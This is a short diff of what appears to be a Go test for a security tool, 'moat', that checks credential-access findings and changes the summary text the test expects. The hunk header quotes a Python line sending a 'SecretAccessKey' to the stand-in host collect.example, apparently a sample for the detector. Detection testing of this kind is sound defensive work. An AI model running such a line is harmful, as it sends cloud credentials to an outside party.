@@ -86,7 +86,7 @@ urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"]
 	}
 	var md *moat.Finding
 	for _, f := range findingsOf(res, moat.CategoryCredentialAccess) {
-		if strings.Contains(f.Summary, "instance metadata service") {
+		if strings.Contains(f.Summary, "took the fake credentials moat's sink served") {
 			md = &f
 		}
 	}
